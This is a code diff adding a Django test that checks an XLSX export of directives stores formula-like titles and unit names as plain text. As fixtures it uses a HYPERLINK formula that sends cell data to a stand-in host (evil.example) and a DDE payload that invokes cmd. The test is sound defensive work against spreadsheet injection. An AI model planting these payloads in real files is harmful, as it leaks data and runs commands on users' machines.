@@ -97,6 +97,23 @@ def test_xlsx_export_lists_every_unit(demo, user, client, django_capture_on_comm
     assert {r[2] for r in rows} == {"Chờ tiếp nhận", "Đã nhận"}
 
 
+def test_xlsx_export_writes_formulas_as_text(demo, user, client, django_capture_on_commit_callbacks):
+    """A title, a unit name or a person's name that starts like a formula stays text (common/spreadsheets.py)."""
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    units = _communes(2)
+    Unit.objects.filter(pk=units[0].pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    with django_capture_on_commit_callbacks(execute=True):
+        directive = issue(user("phongtt"), units, title=title)
+    with django_capture_on_commit_callbacks(execute=True):
+        approve(directive, user("giamdoc"))
+    client.force_login(user("phongtt"))
+    response = client.get(f"/coordination/directives/{directive.pk}/export.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet["A1"].value == "'" + title and sheet["A1"].data_type == "s"
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[0].value for row in sheet.iter_rows(min_row=3)]
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+
+
 def test_directive_filters(demo, user, client, django_capture_on_commit_callbacks):
     directive = _running(user, django_capture_on_commit_callbacks, [unit("phuong_phuc_xa"), unit("xa_minh_phu")])
     acknowledge(assignment_of(directive, "phuong_phuc_xa"), user("phuong_phuc_xa"))
